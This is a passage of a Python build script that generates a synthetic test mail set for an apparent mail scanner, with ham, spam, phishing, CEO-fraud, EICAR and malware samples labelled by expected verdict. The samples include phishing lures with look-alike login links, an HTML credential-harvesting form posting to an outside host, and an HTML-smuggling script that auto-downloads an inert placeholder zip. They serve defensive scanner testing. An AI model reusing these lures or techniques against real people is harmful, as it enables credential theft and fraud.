                              when + timedelta(seconds=1), proto="ESMTPSA", auth="carol@example.com")),
        ("Message-ID", message_id("fwd-slot", "example.com", when)),
        ("Date", plain_date(when)),
        ("From", "Carol Nguyen <carol@example.com>"),
        ("To", "Bob Lindqvist <bob@example.com>"),
        ("Subject", "Fwd: Delivery slot confirmed: Tuesday 24 February, 08:00-10:00"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")],
         "Bob, for your calendar: the paper delivery needs a forklift driver on the 24th.\n\nCarol\n"),
        ([("Content-Type", "message/rfc822"),
          ("Content-Disposition", 'attachment; filename="Delivery slot confirmed.eml"')], inner),
    ])
    return Sample("eml", "forwarded-as-attachment", "ham", "deliver",
                  "internal forward with the original attached as message/rfc822 (a nested message)",
                  when + timedelta(seconds=2), "carol@example.com", render(hdr, body).encode())


def malformed_legacy_8bit() -> Sample:
    when = at(3, 4, 7, 58, 14)
    arrived = when + timedelta(seconds=2)
    hdr = [
        *delivery("j.weiss@partner.example", "bob@example.com"),
        *inbound("mail.partner.example", "mail.partner.example", "198.51.100.150", "bob@example.com",
                 arrived, tls=False),
        ("Message-ID", message_id("maerz", "partner.example", when)),
        ("Date", plain_date(when)),
        ("From", "Jürgen Weiß <j.weiss@partner.example>"),
        ("To", "bob@example.com"),
        ("Subject", "Lieferung für März: Änderung der Anlieferzeit"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/plain; charset="x-legacy-westeuro"'),
        ("Content-Transfer-Encoding", "8bit"),
        ("X-Mailer", "Pegasus Mail for Windows (4.41)"),
    ]
    body = """Hallo Bob,

die Lieferung für März kommt nicht um 8 Uhr, sondern erst um 11 Uhr.
Grund: die Straße vor unserem Lager wird am Vormittag gesperrt.

Grüße aus Köln,
Jürgen Weiß
"""
    # Raw Latin-1 bytes in the headers (no encoded-words) and a charset name no
    # codec knows: broken, but the kind of mail old clients still send.
    return Sample("eml", "legacy-8bit-headers", "malformed", "deliver",
                  "harmless but broken: raw 8-bit Latin-1 bytes in From and Subject, unknown charset "
                  "\"x-legacy-westeuro\", no TLS",
                  arrived + timedelta(seconds=2), "j.weiss@partner.example", render(hdr, body).encode("latin-1"))


# ------------------------------------------------------------- spam

def spam_pharmacy_html() -> Sample:
    when = at(1, 15, 3, 12, 9, UTC)
    arrived = at(1, 15, 4, 27, 51)
    hdr = [
        *delivery("bounce-x91@rx-bestprice.top", "bob@example.com"),
        *inbound("rx-bestprice.top", "unknown", "203.0.113.45", "bob@example.com", arrived, tls=False),
        # Forged: claims the mail started inside example.com's own network.
        ("Received", "from mail.example.com ([192.0.2.200])\n\tby rx-bestprice.top with SMTP id k7ZtQ2;"
                     f" {plain_date(when)}"),
        ("Message-ID", "<000d01dc8a3b$7e1f2a40$6400a8c0@rx-bestprice.top>"),
        ("Date", plain_date(when)),
        ("From", '"Online Pharmacy" <deals@rx-bestprice.top>'),
        ("To", "bob@example.com"),
        ("Subject", "LOWEST PRICES on V1AGRA & C1ALIS - 80% OFF TODAY ONLY!!!"),
        ("MIME-Version", "1.0"),
        ("Content-Type", 'text/html; charset="windows-1252"'),
        ("Content-Transfer-Encoding", "7bit"),
        ("X-Mailer", "Advanced Mass Sender v4.1"),
        ("X-Priority", "1 (Highest)"),
    ]
    body = """<html><body>
<div style="display:none">weather garden river pencil quarterly harbour autumn ledger violin</div>
<table width="560" align="center"><tr><td>
<p><font size="5" color="#cc0000"><b>MEN'S HEALTH MEGA SALE - UP TO 80% OFF!</b></font></p>
<p><font size="4">V1agra from <b>$0.89</b> per pill &bull; C1alis from <b>$1.19</b> per pill</font></p>
<p>No prescription needed! 100% satisfaction guaranteed! Discreet worldwide shipping!</p>
<p><a href="http://rx-bestprice.top/shop/?id=bob&amp;c=771"><img src="http://rx-bestprice.top/img/banner771.jpg" width="500" height="220" border="0"></a></p>
<p><a href="http://rx-bestprice.top/shop/?id=bob&amp;c=771"><font size="5"><b>CLICK HERE TO ORDER NOW</b></font></a></p>
<p><a href="http://meds-express-online.xyz/r/771">Order by phone</a> | <a href="http://pharm-outlet24.click/bestsellers">Bestsellers</a> | <a href="http://pharm-outlet24.click/faq">FAQ</a></p>
<p><font color="#ffffff" size="1">quarterly harbour autumn ledger violin weather garden river pencil</font></p>
<p><font size="1">To stop receiving these offers <a href="http://unsub-center.xyz/u?e=bob@example.com">unsubscribe here</a>.</font></p>
</td></tr></table>
</body></html>
"""
    return Sample("cur", "pharmacy-spam", "spam", "spam",
                  "classic pill spam: HTML-only, shouting subject, obfuscated drug names, hidden and white-on-white "
                  "text, image link, many odd domains, forged inner Received claiming 192.0.2.200, bulk X-Mailer, "
                  "no rDNS",
                  arrived + timedelta(seconds=2), "bounce-x91@rx-bestprice.top", render(hdr, body).encode("ascii"))


def spam_crypto_base64() -> Sample:
    when = at(2, 21, 5, 44, 30, UTC)
    arrived = at(2, 21, 6, 44, 41)
    html = """<html><head><meta http-equiv="Content-Type" content="text/html; charset=utf-8"></head>
<body style="font-family: Arial;">
<h2 style="color:#0a7f2e;">Turn $250 into $8,400 in just 7 days &ndash; GUARANTEED</h2>
<p>Dear Friend,</p>
<p>Our AI trading robot made ordinary people <b>over 3,300% profit</b> last month. No experience needed.
The system trades Bitcoin for you 24/7 while you sleep. Risk-free: if you don't double your money in the
first week, we refund every cent!</p>
<p>Only <b>37 spots</b> left in your country. This exclusive offer expires at midnight.</p>
<p style="text-align:center;"><a href="https://coinvault-profit.xyz/start?ref=b0b" style="background:#0a7f2e;color:#fff;padding:14px 28px;font-size:20px;text-decoration:none;">START EARNING NOW</a></p>
<p><i>"I paid off my mortgage in 3 months!" &ndash; Mark T., verified investor</i></p>
<p><a href="https://coinvault-profit.xyz/proof">See the proof</a> &bull;
<a href="https://ai-trader-signup.top/join?src=mail">Open your free account</a> &bull;
<a href="https://crypto-news-daily.click/story/ai-robot">As seen on TV</a></p>
<p style="font-size:10px;color:#999;">You received this because you opted in to investment offers.
<a href="https://coinvault-profit.xyz/unsub">Unsubscribe</a></p>
</body></html>
"""
    hdr = [
        *delivery("invest@coinvault-profit.xyz", "alice@example.com"),
        *inbound("vps-18823.hosting.example", "vps-18823.hosting.example", "203.0.113.18",
                 "alice@example.com", arrived, tls=False),
        ("Message-ID", "<a8c31f02b9e14d7c@coinvault-profit.xyz>"),
        ("Date", plain_date(when)),
        ("From", "QuantumCoin Profits <invest@coinvault-profit.xyz>"),
        ("Reply-To", "support@ai-trader-signup.top"),
        ("To", "undisclosed-recipients:;"),
        ("Subject", encoded_word("\U0001F4B0 Turn $250 into $8,400 in 7 days - AI crypto trading")),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/html; charset=utf-8"),
        ("Content-Transfer-Encoding", "base64"),
        ("X-Mailer", "PHPMailer 5.2.9"),
    ]
    return Sample("new", "crypto-investment", "spam", "spam",
                  "crypto investment scam: base64-encoded HTML-only body, money claims, urgency, Reply-To on another "
                  "domain, undisclosed recipients, emoji base64 subject, PHPMailer from a VPS",
                  arrived + timedelta(seconds=2), "invest@coinvault-profit.xyz",
                  render(hdr, b64(html.encode("utf-8"))).encode())


def spam_loan_no_date() -> Sample:
    arrived = at(2, 2, 22, 16, 3)
    bound = boundary("loan")
    hdr = [
        *delivery("offers@quickloan-approval.click", "bob@example.com"),
        *inbound("host-203-0-113-88.dsl.example", "host-203-0-113-88.dsl.example", "203.0.113.88",
                 "bob@example.com", arrived, tls=False),
        # No Date and no Message-ID: the bulk tool never added them.
        ("From", "Loan Approval Dept <offers@quickloan-approval.click>"),
        ("To", "bob@example.com"),
        ("Subject", "APPROVED: your $5,000 loan is waiting - no credit check"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{bound}"'),
        ("X-Mailer", "SendBlaster Pro 4.4"),
    ]
    text = """Congratulations! You have been PRE-APPROVED for a personal loan of up to $5,000.

* No credit check
* Money in your account within 24 hours
* Bad credit OK, bankruptcies OK

Claim your cash now: http://quickloan-approval.click/apply?id=77412

This offer is only valid for 48 hours. Act now!

To be removed from our list: http://quickloan-approval.click/remove
"""
    html = """<html><body>
<p><b><font size="5">Congratulations! You have been PRE-APPROVED</font></b></p>
<p>Get up to <b>$5,000</b> cash in your account within 24 hours. <u>No credit check.</u> Bad credit OK!</p>
<p><a href="http://quickloan-approval.click/apply?id=77412"><font size="5" color="#0000ff">CLAIM YOUR CASH NOW &gt;&gt;</font></a></p>
<p>This offer is only valid for 48 hours. Act now!</p>
<p><font size="1"><a href="http://quickloan-approval.click/remove">remove me</a></font></p>
</body></html>
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", "text/html; charset=us-ascii")], html),
    ])
    return Sample("mbox", "loan-spam", "spam", "spam",
                  "loan spam with no Date and no Message-ID, dynamic-looking rDNS, bulk-mailer X-Mailer, "
                  "shouting subject",
                  arrived + timedelta(seconds=2), "offers@quickloan-approval.click", render(hdr, body).encode())


def spam_lottery() -> Sample:
    when = at(2, 27, 1, 3, 0, UTC)
    arrived = at(3, 1, 11, 20, 34)
    hdr = [
        *delivery("claims@prize-claim.top", "carol@example.com"),
        *inbound("localhost", "unknown", "203.0.113.120", "carol@example.com", arrived, tls=False),
        # A hop "older" than its own Date by two days, from a host with a
        # Microsoft-ish name: a typical forged trail.
        ("Received", "from mail-relay.outlook-intl.example (unknown [203.0.113.121])\n\t"
                     f"by localhost with SMTP; {plain_date(when - timedelta(days=2))}"),
        ("Message-ID", "<20260227010300.GA9931@localhost>"),
        ("Date", plain_date(when)),
        ("From", "INTERNATIONAL LOTTERY BOARD <claims@prize-claim.top>"),
        ("Reply-To", "barrister.james.cole@agent-claims.xyz"),
        ("To", "undisclosed-recipients:;"),
        ("Subject", "CONGRATULATIONS!!! YOU HAVE WON EUR 1,500,000.00"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
        ("X-Mailer", "Microsoft Outlook Express 6.00.2600.0000"),
    ]
    body = """ATTN: LUCKY WINNER

We are pleased to inform you that your email address was selected in our
annual international email lottery draw held on 20 February 2026. You have
WON the sum of EUR 1,500,000.00 (ONE MILLION FIVE HUNDRED THOUSAND EURO)
in the second category.

Winning reference: ILB/7731/2026
Batch number: 44-B/219/EU

To claim your prize, fill in the claim form at
http://203.0.113.120/claims/form.php?ref=ILB7731
and send a copy of your passport to our accredited agent, Barrister James
Cole, at barrister.james.cole@agent-claims.xyz. A processing and transfer
fee of EUR 350 applies and must be paid before release of funds.

Keep this notification STRICTLY CONFIDENTIAL until your claim is processed
to avoid double claiming. Unclaimed prizes are returned to the treasury
after 14 days.

Congratulations once again.

Mrs. Helen Ward
Claims Coordinator
Status page: http://203.0.113.121:8080/status?ref=ILB7731
"""
    return Sample("mbox", "lottery-spam", "spam", "spam",
                  "advance-fee lottery scam: shouting subject, links to IP literals (one with a port), Reply-To to "
                  "another domain, HELO localhost, forged hop dated before the message, fake Outlook Express",
                  arrived + timedelta(seconds=2), "claims@prize-claim.top", render(hdr, body).encode())


def spam_work_from_home_broken() -> Sample:
    arrived = at(3, 6, 19, 41, 7)
    when = at(3, 6, 18, 40, 55, UTC)
    bound = boundary("wfh")
    hdr = [
        *delivery("jobs@remote-earnings.click", "bob@example.com"),
        *inbound("remote-earnings.click", "unknown", "203.0.113.201", "bob@example.com", arrived, tls=False),
        ("Message-ID", "<wfh.4410.20260306@remote-earnings.click>"),
        ("Date", plain_date(when)),
        ("From", "Career Opportunities <jobs@remote-earnings.click>"),
        ("To", "bob@example.com"),
        ("Subject", "Earn $3,000/week from home - no experience needed!!"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
        ("X-Mailer", "Bulk Mail Express 2.3"),
    ]
    text = """Hi,

Are you tired of your 9-5? Our members earn $3,000 per week working just
2 hours a day from home. No experience, no selling, no risk.

Watch the free video: https://bit.ly/3wFhE9x
Register here: https://tinyurl.com/earn-3k-week
Success stories: http://remote-earnings.click/stories

Spots are limited, sign up TODAY!
"""
    # The HTML part declares base64 but its text is damaged (a stray "!" and
    # broken padding), and the message never closes its outer boundary.
    damaged_b64 = base64.b64encode(
        b'<html><body><h1>Earn $3,000/week!</h1><p><a href="https://bit.ly/3wFhE9x">Watch now</a></p>'
        b'</body></html>').decode()
    damaged_b64 = damaged_b64[:40] + "!!" + damaged_b64[40:-2] + "=\n"
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", "text/html; charset=us-ascii"), ("Content-Transfer-Encoding", "base64")], damaged_b64),
    ], close=False)
    return Sample("eml", "work-from-home-broken-mime", "malformed", "spam",
                  "hostile and broken: job-scam spam with URL shorteners (bit.ly, tinyurl.com), an HTML part with "
                  "invalid base64, and no closing MIME boundary",
                  arrived + timedelta(seconds=2), "jobs@remote-earnings.click", render(hdr, body).encode())


# ------------------------------------------------------------- phishing

def phish_m365_password() -> Sample:
    when = at(2, 24, 7, 3, 12, UTC)
    arrived = at(2, 24, 8, 3, 20)
    bound = boundary("m365")
    link = "https://login.rnicrosoftonline.click/common/oauth2/authorize?login_hint=bob%40example.com&keep=1"
    text = f"""Microsoft 365

Password expiry notice for bob@example.com

The password for your account expires today. To keep using your current
password, confirm it below. If you do nothing, you will be signed out of
Outlook, Teams and OneDrive at 23:59.

Keep current password: {link}

Microsoft 365 Admin Center
This is an automated message. Please do not reply.
"""
    html = f"""<html><body style="font-family: Segoe UI, Arial, sans-serif;">
<table width="520" style="border:1px solid #ddd;"><tr><td style="padding:24px;">
<p style="font-size:20px; color:#0078d4;">Microsoft 365</p>
<p><b>Password expiry notice for bob@example.com</b></p>
<p>The password for your account expires <b>today</b>. To keep using your current password, confirm it below.
If you do nothing, you will be signed out of Outlook, Teams and OneDrive at 23:59.</p>
<p><a href="{link}" style="background:#0078d4; color:#fff; padding:10px 20px; text-decoration:none;">Keep current password</a></p>
<p style="font-size:11px; color:#888;">Microsoft 365 Admin Center. This is an automated message. Please do not reply.</p>
</td></tr></table></body></html>
"""
    hdr = [
        *delivery("bounce@m365-notice.click", "bob@example.com"),
        *inbound("mail.m365-notice.click", "vps-203-0-113-57.cloud.example", "203.0.113.57", "bob@example.com",
                 arrived),
        ("Message-ID", message_id("m365", "m365-notice.click", when)),
        ("Date", plain_date(when)),
        ("From", '"Microsoft 365 Admin" <no-reply@m365-notice.click>'),
        ("To", "bob@example.com"),
        ("Subject", "Action required: your password for bob@example.com expires today"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{bound}"'),
        ("X-Priority", "1"),
    ]
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=utf-8")], text),
        ([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")],
         qp(html, "utf-8")),
    ])
    return Sample("new", "m365-password-expiry", "phishing", "spam",
                  "Microsoft 365 password-expiry lure: brand in the display name, sender on an unrelated domain, "
                  "link to the look-alike login.rnicrosoftonline.click (rn for m) with the victim's address",
                  arrived + timedelta(seconds=2), "bounce@m365-notice.click", render(hdr, body).encode())


def phish_paypal_mismatch() -> Sample:
    when = at(3, 3, 4, 15, 0, UTC)
    arrived = at(3, 3, 5, 15, 9)
    bound = boundary("paypal")
    fake = "http://paypal.com.account-verify-center.top/signin/?cmd=_login-run&session=8f31c"
    html = f"""<html><body style="font-family: Helvetica, Arial, sans-serif; color:#2c2e2f;">
<p style="font-size:22px; color:#003087;"><b>PayPal</b></p>
<p>Dear Customer,</p>
<p>We noticed unusual activity on your account and have temporarily <b>limited</b> what you can do with it.
To restore full access, please verify your account information within 24 hours.
If we do not hear from you, your account will be permanently suspended.</p>
<p>Log in here to verify: <a href="{fake}">https://www.paypal.com/signin</a></p>
<p><a href="{fake}" style="background:#0070ba; color:#fff; padding:10px 24px; border-radius:20px; text-decoration:none;">Verify your account</a></p>
<p>Thank you for helping us keep your account safe.<br>The PayPal Team</p>
<p style="font-size:10px; color:#999;">Copyright &copy; 1999-2026 PayPal. All rights reserved. Case ID: PP-003-192-778-441</p>
</body></html>
"""
    text = """Dear Customer,

We noticed unusual activity on your account and have temporarily limited
it. Please verify your account information within 24 hours at
https://www.paypal.com/signin or your account will be suspended.

The PayPal Team
"""
    hdr = [
        *delivery("service@intl-resolution-center.top", "carol@example.com"),
        *inbound("intl-resolution-center.top", "unknown", "203.0.113.140", "carol@example.com", arrived, tls=False),
        ("Message-ID", message_id("paypal", "intl-resolution-center.top", when)),
        ("Date", plain_date(when)),
        ("From", '"PayPal" <service@intl-resolution-center.top>'),
        ("To", "carol@example.com"),
        ("Subject", "Your account has been limited - action required"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/alternative; boundary="{bound}"'),
    ]
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", "text/html; charset=us-ascii")], html),
    ])
    return Sample("mbox", "paypal-verify", "phishing", "spam",
                  "account-verification phish: anchor text shows https://www.paypal.com/signin but the href goes "
                  "to paypal.com.account-verify-center.top; brand display name on an unrelated domain; threat "
                  "and deadline",
                  arrived + timedelta(seconds=2), "service@intl-resolution-center.top", render(hdr, body).encode())


def phish_docusign_html_form() -> Sample:
    when = at(3, 9, 13, 26, 41, UTC)
    arrived = at(3, 9, 14, 26, 50)
    bound = boundary("docusign")
    attachment = """<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>DocuSign - Secure Document</title>
<style>body{font-family:Arial,sans-serif;background:#f2f2f2}.box{width:360px;margin:60px auto;background:#fff;padding:28px}</style>
</head><body>
<div class="box">
<h2 style="color:#1e4ca1;">DocuSign</h2>
<p>Remittance_Q1_2026.pdf is protected. Sign in with your email account to view the document.</p>
<form method="POST" action="https://sharedocs-viewer.top/auth/collect.php">
<input type="email" name="login" value="carol@example.com" style="width:100%"><br><br>
<input type="password" name="passwd" placeholder="Email password" style="width:100%"><br><br>
<input type="hidden" name="src" value="docusign-q1">
<button type="submit" style="background:#ffc820;border:0;padding:10px 30px;">View document</button>
</form>
<p style="font-size:10px;color:#888;">Secured by DocuSign&reg;</p>
</div></body></html>
"""
    html = """<html><body style="font-family: Arial, sans-serif;">
<table width="560" style="background:#1e4ca1; color:#fff;"><tr><td style="padding:20px; text-align:center;">
<p style="font-size:18px;">Finance Department sent you a document to review and sign.</p>
</td></tr></table>
<p>Please review the attached remittance advice for Q1 2026. Open the attached secure document and sign in
with your email credentials to view it.</p>
<p style="font-size:11px; color:#777;">Do Not Share This Email. This email contains a secure link to DocuSign.</p>
</body></html>
"""
    hdr = [
        *delivery("dse@docusign-envelopes.click", "carol@example.com"),
        *inbound("mta7.docusign-envelopes.click", "unknown", "203.0.113.77", "carol@example.com", arrived),
        ("Message-ID", message_id("docusign", "docusign-envelopes.click", when)),
        ("Date", plain_date(when)),
        ("From", '"DocuSign via Finance" <dse@docusign-envelopes.click>'),
        ("To", "carol@example.com"),
        ("Subject", "Please review and sign: Remittance_Q1_2026.pdf"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    body = multipart(bound, [
        ([("Content-Type", "text/html; charset=utf-8"), ("Content-Transfer-Encoding", "7bit")], html),
        ([("Content-Type", 'text/html; name="Remittance_Q1_2026.html"'),
          ("Content-Disposition", 'attachment; filename="Remittance_Q1_2026.html"'),
          ("Content-Transfer-Encoding", "base64")], b64(attachment.encode("utf-8"))),
    ])
    return Sample("eml", "docusign-html-form", "phishing", "spam",
                  "shared-document lure: HTML attachment with a credential form (password field, victim's address "
                  "pre-filled) posting to sharedocs-viewer.top",
                  arrived + timedelta(seconds=2), "dse@docusign-envelopes.click", render(hdr, body).encode())


# ------------------------------------------------------------- spoofing

def spoof_ceo_wire() -> Sample:
    when = at(3, 10, 8, 52, 19)
    arrived = when + timedelta(seconds=4)
    hdr = [
        *delivery("ceo@example.com", "finance@example.com"),
        # Claims to be example.com (HELO too) but connects from an outside
        # address, not from the organisation's authorised 192.0.2.0/24.
        *inbound("example.com", "unknown", "203.0.113.66", "finance@example.com", arrived, tls=False),
        ("Message-ID", message_id("wire", "example.com", when)),
        ("Date", plain_date(when)),
        ("From", "Daniel Hart <ceo@example.com>"),
        ("Reply-To", "Daniel Hart <d.hart.office@exec-mail.click>"),
        ("To", "finance@example.com"),
        ("Subject", "Urgent - confidential payment today"),
        ("MIME-Version", "1.0"),
        ("Content-Type", "text/plain; charset=us-ascii"),
        ("Content-Transfer-Encoding", "7bit"),
        ("X-Mailer", "iPhone Mail (21D61)"),
    ]
    body = """Hi,

I need you to handle a wire transfer for me today. We are closing a
confidential acquisition and the seller's lawyers need the deposit before
3pm. Please keep this between us until the announcement next week.

Amount: EUR 48,750.00
Beneficiary: Harbor Legal Escrow Services
IBAN: LT00 0000 0000 0000 0000
Reference: Project Falcon

I'm in meetings all day and can't take calls, so reply to this email only
and confirm once it's sent.

Thanks,
Daniel

Sent from my iPhone
"""
    return Sample("new", "ceo-wire-fraud", "spoof", "reject",
                  "CEO fraud: From ceo@example.com (the organisation's own domain, HELO example.com) but connecting "
                  "from 203.0.113.66, outside authorised_ips; Reply-To on another domain; urgent secret payment",
                  arrived + timedelta(seconds=2), "ceo@example.com", render(hdr, body).encode())


# ------------------------------------------------------------- malware

def malware_eicar_zip() -> Sample:
    when = at(3, 2, 9, 31, 5, UTC)
    arrived = at(3, 2, 10, 31, 12)
    bound = boundary("eicar")
    archive = stored_zip([("eicar.com", EICAR)])
    hdr = [
        *delivery("accounts@invoice-portal.top", "carol@example.com"),
        *inbound("mail.invoice-portal.top", "unknown", "203.0.113.9", "carol@example.com", arrived),
        ("Message-ID", message_id("eicar", "invoice-portal.top", when)),
        ("Date", plain_date(when)),
        ("From", "Accounts Department <accounts@invoice-portal.top>"),
        ("To", "carol@example.com"),
        ("Subject", "Outstanding payment 2026-03 - details attached"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    text = """Good morning,

Please find attached the payment details for the outstanding balance on
your account. Open the attached file to review the statement.

Regards,
Accounts Department
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", 'application/zip; name="Payment_Details_0302.zip"'),
          ("Content-Disposition", 'attachment; filename="Payment_Details_0302.zip"'),
          ("Content-Transfer-Encoding", "base64")], b64(archive)),
    ])
    return Sample("eml", "eicar-in-zip", "malware", "malicious",
                  "zip attachment holding the standard 68-byte EICAR antivirus test file (stored, not compressed)",
                  arrived + timedelta(seconds=2), "accounts@invoice-portal.top", render(hdr, body).encode())


def malware_double_extension_exe() -> Sample:
    when = at(3, 5, 6, 12, 48, UTC)
    arrived = at(3, 5, 7, 12, 55)
    bound = boundary("exe")
    hdr = [
        *delivery("ar@brightpapr-billing.xyz", "carol@example.com"),
        *inbound("brightpapr-billing.xyz", "unknown", "203.0.113.33", "carol@example.com", arrived, tls=False),
        ("Message-ID", message_id("exe", "brightpapr-billing.xyz", when)),
        ("Date", plain_date(when)),
        ("From", "BrightPaper Accounts Receivable <ar@brightpapr-billing.xyz>"),
        ("To", "carol@example.com"),
        ("Subject", "OVERDUE: invoice BP-2026-0117 - final reminder"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    text = """Dear customer,

Our records show invoice BP-2026-0117 is still unpaid. Please open the
attached invoice and settle the amount today to avoid a late fee and the
suspension of deliveries.

Accounts Receivable
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", 'application/pdf; name="invoice.pdf.exe"'),
          ("Content-Disposition", 'attachment; filename="invoice.pdf.exe"'),
          ("Content-Transfer-Encoding", "base64")], b64(fake_pe())),
    ])
    return Sample("eml", "invoice-pdf-exe", "malware", "malicious",
                  "attachment invoice.pdf.exe: double extension, declared application/pdf but the bytes are a "
                  "Windows PE (MZ, PE\\0\\0 at e_lfanew); sender on a look-alike of the real supplier's domain",
                  arrived + timedelta(seconds=2), "ar@brightpapr-billing.xyz", render(hdr, body).encode())


def malware_html_smuggling() -> Sample:
    when = at(3, 11, 15, 2, 7, UTC)
    arrived = at(3, 11, 16, 2, 15)
    bound = boundary("smuggle")
    payload = stored_zip([("VM_0142_Play.js",
                           b"// Mailsphere sample: an inert placeholder where a dropper script would be.\n"
                           b"var note = 'this file does nothing';\n")])
    encoded = base64.b64encode(payload).decode()
    lines = "\n".join(f'  "{encoded[i:i + 72]}" +' for i in range(0, len(encoded), 72)).rstrip(" +")
    attachment = f"""<!DOCTYPE html>
<html><head><meta charset="utf-8"><title>Voicemail</title></head>
<body style="font-family:Arial,sans-serif;">
<p>Loading your voicemail, please wait...</p>
<script>
var blobData =
{lines};
function decodeToBytes(text) {{
  var raw = window.atob(text);
  var out = new Uint8Array(raw.length);
  for (var i = 0; i < raw.length; i++) {{ out[i] = raw.charCodeAt(i); }}
  return out;
}}
var file = new Blob([decodeToBytes(blobData)], {{type: "application/octet-stream"}});
var link = document.createElement("a");
link.href = window.URL.createObjectURL(file);
link.download = "VM_0142_Play.zip";
document.body.appendChild(link);
link.click();
</script>
</body></html>
"""
    hdr = [
        *delivery("voicemail@pbx-notify.top", "bob@example.com"),
        *inbound("pbx-notify.top", "unknown", "203.0.113.150", "bob@example.com", arrived, tls=False),
        ("Message-ID", message_id("voicemail", "pbx-notify.top", when)),
        ("Date", plain_date(when)),
        ("From", "Voice Mail Service <voicemail@pbx-notify.top>"),
        ("To", "bob@example.com"),
        ("Subject", "New voicemail from +1 555 0142 (0:47)"),
        ("MIME-Version", "1.0"),
        ("Content-Type", f'multipart/mixed; boundary="{bound}"'),
    ]
    text = """You have received a new voicemail.

From: +1 555 0142
Duration: 0:47
Received: Wednesday, 11 March 2026

Open the attached file to play the message.
"""
    body = multipart(bound, [
        ([("Content-Type", "text/plain; charset=us-ascii")], text),
        ([("Content-Type", 'text/html; name="VM_0142_Play.htm"'),
          ("Content-Disposition", 'attachment; filename="VM_0142_Play.htm"'),
          ("Content-Transfer-Encoding", "base64")], b64(attachment.encode())),
    ])
    return Sample("eml", "voicemail-html-smuggling", "malware", "malicious",
                  "HTML smuggling: an .htm attachment whose script decodes a base64 zip (holding a .js file) into "
                  "a Blob and triggers its download",
                  arrived + timedelta(seconds=2), "voicemail@pbx-notify.top", render(hdr, body).encode())


SAMPLES: list[Callable[[], Sample]] = [
    # Maildir/cur
    ham_meeting_notes, ham_supplier_invoice, ham_thread_reply, ham_utf8_body, spam_pharmacy_html,
    ham_shipping_notice,
    # Maildir/new
    ham_latin1_subject, phish_m365_password, spoof_ceo_wire, spam_crypto_base64,
    # Maildir/.Lists
    ham_list_post, ham_newsletter,
    # archive.mbox, in this order
    ham_from_line_in_body, ham_out_of_office, ham_old_mboxo_quote, spam_loan_no_date, spam_lottery,
    phish_paypal_mismatch,
    # eml/
    ham_forwarded_rfc822, malformed_legacy_8bit, spam_work_from_home_broken, phish_docusign_html_form,
    malware_eicar_zip, malware_double_extension_exe, malware_html_smuggling,
]


# ------------------------------------------------------------- writers

def maildir_name(sample: Sample, serial: int) -> str:
    base = f"{int(sample.delivered.timestamp())}.M{serial}P{2100 + serial}.{MAILDIR_HOST}"
    return base if sample.place.endswith("new") else f"{base}:2,{sample.flags}"


def mbox_from_line(sample: Sample) -> bytes:
    utc = sample.delivered.astimezone(UTC)
    stamp = f"{utc:%a %b} {utc.day:2d} {utc:%H:%M:%S %Y}"
    return f"From {sample.envelope_from or 'MAILER-DAEMON'} {stamp}\n".encode()


def mboxrd_quote(raw: bytes) -> bytes:
    """mboxrd: every body line matching ^>*From gets one more '>'."""
    out = []
    for line in raw.split(b"\n"):
        stripped = line.lstrip(b">")
        out.append(b">" + line if stripped.startswith(b"From ") else line)
    return b"\n".join(out)


def write_all(samples: list[Sample]) -> dict[int, str]:
    """Write every sample; returns index -> path shown in the README."""
    for stale in (MAILDIR, EML_DIR):
        if stale.exists():
            shutil.rmtree(stale)
    for folder in (MAILDIR, MAILDIR / ".Lists"):
        for sub in ("cur", "new", "tmp"):
            (folder / sub).mkdir(parents=True, exist_ok=True)
        # git keeps no empty directories; Maildir readers skip dotfiles.
        (folder / "tmp" / ".keep").write_bytes(b"")
    EML_DIR.mkdir()

    where: dict[int, str] = {}
    mbox_entries: list[bytes] = []
    for index, sample in enumerate(samples):
        if sample.place == "mbox":
            mbox_entries.append(mbox_from_line(sample) + mboxrd_quote(sample.raw))
            where[index] = f"archive.mbox #{len(mbox_entries)}"
        elif sample.place == "eml":
            path = EML_DIR / f"{sample.name}.eml"
            path.write_bytes(sample.raw)
            where[index] = path.relative_to(HERE).as_posix()
        else:
            path = MAILDIR / sample.place / maildir_name(sample, index + 1)
            path.write_bytes(sample.raw)
            where[index] = path.relative_to(HERE).as_posix()
    # Messages are separated by an empty line; the file itself ends without a
    # final newline, an edge case mbox readers must survive.
    mbox = b"\n".join(mbox_entries)
    MBOX.write_bytes(mbox.rstrip(b"\n"))
    return where


README_HEAD = """# Sample mail

A small, invented mail set that exercises every verdict Mailsphere gives. The
quickstart scans it:

    mailsphere scan sample_mail/
    mailsphere scan sample_mail/ --config sample_mail/mailsphere.toml

Everything here is generated by `build.py` (standard library only,
deterministic): run `python3 sample_mail/build.py` after editing it and
commit both. Do not edit the messages by hand. This file is generated too.

## Layout

- `Maildir/` a Maildir (`cur/`, `new/`, `tmp/`) with one Maildir++ subfolder,
  `Maildir/.Lists/`. Files in `new/` have no flags; files in `cur/` carry
  `:2,` flags (`S` seen, `R` replied). `tmp/` holds only a `.keep` file so git
